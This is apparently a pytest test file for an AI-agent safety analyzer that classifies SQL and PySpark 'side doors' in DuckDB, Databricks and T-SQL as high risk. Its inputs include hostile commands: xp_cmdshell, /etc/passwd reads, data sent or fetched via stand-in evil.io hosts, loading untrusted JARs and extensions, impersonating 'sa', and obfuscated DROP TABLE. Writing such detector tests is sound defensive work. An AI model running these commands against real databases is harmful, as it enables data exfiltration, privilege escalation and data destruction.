"""SQL side doors (DuckDB, Spark/Databricks, T-SQL) and their Python API equivalents."""

from __future__ import annotations

import pytest

from aadap.core.enums import RiskLevel
from aadap.safety import analyze

ALLOWED = ["data.example.com"]


@pytest.mark.parametrize(
    ("platform", "sql", "rule"),
    [
        ("local", "SET enable_external_access = true", "sql.security_setting"),
        ("local", "RESET allowed_directories", "sql.security_setting"),
        ("local", "PRAGMA lock_configuration=false", "sql.security_setting"),
        ("local", "SET GLOBAL allowed_paths = ['/data/x']", "sql.security_setting"),
        ("local", "SET allow_unsigned_extensions = true", "sql.security_setting"),
        ("local", "INSTALL httpfs", "sql.extension"),
        ("local", "FORCE INSTALL shellfs FROM community", "sql.extension"),
        ("local", "LOAD httpfs", "sql.extension"),
        ("local", "ATTACH '/var/lib/other.duckdb' AS other", "sql.outside_workspace"),
        ("local", "ATTACH 'dbname=x host=10.0.0.1' AS pg (TYPE postgres)", "sql.outside_workspace"),
        ("local", "COPY orders TO '/tmp/orders.csv'", "sql.outside_workspace"),
        (
            "local",
            "COPY orders TO '../../outside.parquet' (FORMAT parquet)",
            "sql.outside_workspace",
        ),
        ("local", "COPY orders TO '~/orders.csv'", "sql.outside_workspace"),
        ("local", "COPY orders TO 's3://bucket/x.parquet'", "sql.remote_access"),
        ("local", "EXPORT DATABASE '/tmp/dump'", "sql.outside_workspace"),
        ("local", "SELECT * FROM read_csv('https://evil.io/x.csv')", "sql.remote_access"),
        ("local", "SELECT * FROM 's3://bucket/data.parquet'", "sql.remote_access"),
        ("local", "SELECT content FROM read_text('/etc/passwd')", "sql.sensitive_file"),
        (
            "databricks",
            "SET spark.databricks.delta.retentionDurationCheck.enabled = false",
            "sql.security_setting",
        ),
        ("databricks", "SET spark.databricks.acl.dfAclsEnabled = false", "sql.security_setting"),
        ("databricks", "ADD JAR '/dbfs/jars/evil.jar'", "sql.add_resource"),
        (
            "databricks",
            "CREATE FUNCTION f AS 'com.x.Evil' USING JAR '/dbfs/jars/evil.jar'",
            "sql.external_function",
        ),
        (
            "databricks",
            "CREATE TEMPORARY FUNCTION f AS 'com.x.Evil' USING JAR 's3://x/evil.jar'",
            "sql.external_function",
        ),
        (
            "databricks",
            "CREATE FUNCTION f(x INT) RETURNS INT LANGUAGE PYTHON AS $$ return x $$",
            "sql.external_function",
        ),
        ("databricks", "SELECT * FROM read_files('https://evil.io/x.csv')", "sql.remote_access"),
        ("fabric", "EXEC xp_cmdshell 'whoami'", "sql.os_command"),
        ("fabric", "EXEC sp_configure 'show advanced options', 1", "sql.security_setting"),
        ("fabric", "RECONFIGURE", "sql.security_setting"),
        (
            "fabric",
            "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1')",
            "sql.external_data",
        ),
        (
            "fabric",
            "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t",
            "sql.external_data",
        ),
        ("fabric", "SELECT * FROM OPENQUERY(linked, 'SELECT 1')", "sql.external_data"),
        ("fabric", "BULK INSERT t FROM 'C:\\Windows\\win.ini'", "sql.external_data"),
        ("fabric", "EXEC msdb.dbo.sp_send_dbmail @recipients = 'x@evil.io'", "sql.remote_access"),
        ("fabric", "EXECUTE AS LOGIN = 'sa'", "sql.credential"),
        ("fabric", "EXEC AS USER = 'dbo'", "sql.credential"),
        ("fabric", "SELECT 1\nEXECUTE AS USER = 'dbo'\nSELECT * FROM dbo.pay", "sql.credential"),
        ("fabric", "SELECT 1\nBULK INSERT t FROM '\\\\share\\x.csv'", "sql.external_data"),
        ("fabric", "EXEC('DR' + 'OP TABLE dbo.orders')", "sql.dynamic_sql"),
        ("fabric", "EXEC('DR' + 'OP TABLE dbo.orders')", "sql.drop"),
        ("fabric", "EXEC sp_executesql N'TRUNCATE TABLE dbo.orders'", "sql.truncate"),
        ("databricks", "CREATE TEMPORARY FUNCTION f AS 'com.acme.Udf'", "sql.external_function"),
        (
            "databricks",
            "CREATE FUNCTION IF NOT EXISTS db.f AS 'com.acme.Udf'",
            "sql.external_function",
        ),
        ("fabric", "CREATE TEMPORARY FUNCTION f AS 'com.acme.Udf'", "sql.external_function"),
        ("fabric", "BACKUP DATABASE db TO DISK = 'C:\\dump.bak'", "sql.outside_workspace"),
        ("local", "CREATE SECRET s3cfg (TYPE s3, KEY_ID 'k', SECRET 'v')", "sql.credential"),
        (
            "local",
            "CREATE PERSISTENT SECRET (TYPE s3, PROVIDER credential_chain)",
            "sql.credential",
        ),
    ],
)
def test_side_doors_are_high(platform: str, sql: str, rule: str) -> None:
    analysis = analyze(sql, language="sql", platform=platform, egress_allowed_hosts=ALLOWED)
    assert rule in analysis.rules(), analysis.rules()
    assert analysis.risk >= RiskLevel.HIGH


@pytest.mark.parametrize(
    ("platform", "sql"),
    [
        ("local", "COPY (SELECT * FROM orders) TO 'output/orders.parquet' (FORMAT parquet)"),
        ("local", "SET threads = 4"),
        ("local", "SET memory_limit = '2GB'"),
        ("local", "ATTACH 'warehouse.duckdb' AS w"),
        ("local", "SELECT * FROM read_parquet('data/orders/*.parquet')"),
        ("local", "SELECT * FROM read_csv('https://data.example.com/rates.csv')"),
        ("databricks", "SET spark.sql.shuffle.partitions = 64"),
        (
            "databricks",
            "CREATE TEMPORARY FUNCTION to_cents(x DOUBLE) RETURNS BIGINT "
            "RETURN CAST(x * 100 AS BIGINT)",
        ),
        ("databricks", "SELECT * FROM read_files('s3://lake/raw/orders/')"),
        ("fabric", "SELECT TOP 10 * FROM dbo.orders"),
    ],
)
def test_look_alikes_are_not_side_doors(platform: str, sql: str) -> None:
    analysis = analyze(sql, language="sql", platform=platform, egress_allowed_hosts=ALLOWED)
    assert analysis.risk < RiskLevel.HIGH, analysis.rules()


def test_copy_inside_the_workspace_stays_a_normal_write() -> None:
    analysis = analyze("COPY orders TO 'exports/orders.csv' (HEADER)", language="sql")
    assert analysis.rules() == {"sql.copy"}
    assert analysis.operation_class.value == "write"


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        (
            'spark.conf.set("spark.databricks.delta.retentionDurationCheck.enabled", "false")',
            "python.security_setting",
        ),
        ("spark.conf.set(key, value)", "python.security_setting"),
        ('spark.sparkContext.addJar("/dbfs/jars/x.jar")', "python.code_loading"),
        ('spark.udf.registerJavaFunction("f", "com.x.F")', "python.code_loading"),
        (
            'import duckdb\ncon = duckdb.connect(config={"allow_unsigned_extensions": "true"})',
            "python.security_setting",
        ),
        (
            'import duckdb\ncon = duckdb.connect()\ncon.install_extension("shellfs")',
            "python.code_loading",
        ),
        ('import duckdb\nduckdb.sql("INSTALL httpfs; LOAD httpfs")', "sql.extension"),
        (
            'import duckdb\nq = "SET " + "enable_external_access" + " = true"\n'
            "duckdb.connect().execute(q)",
            "sql.security_setting",
        ),
        (
            'import duckdb\nduckdb.sql("COPY t TO \'" + "/tmp/x.csv" + "\'")',
            "sql.outside_workspace",
        ),
    ],
)
def test_python_reaches_the_same_doors(code: str, rule: str) -> None:
    analysis = analyze(code, language="pyspark", platform="local")
    assert rule in analysis.rules(), analysis.rules()
    assert analysis.risk >= RiskLevel.HIGH


@pytest.mark.parametrize(
    "code",
    [
        'spark.conf.set("spark.sql.shuffle.partitions", "64")',
        'import duckdb\ncon = duckdb.connect("w.duckdb", config={"threads": 4})',
        'spark = SparkSession.builder.appName("x").config("spark.sql.shuffle.partitions", 8)'
        ".getOrCreate()",
    ],
)
def test_python_look_alikes_are_not_side_doors(code: str) -> None:
    assert analyze(code, language="pyspark", platform="local").risk < RiskLevel.HIGH
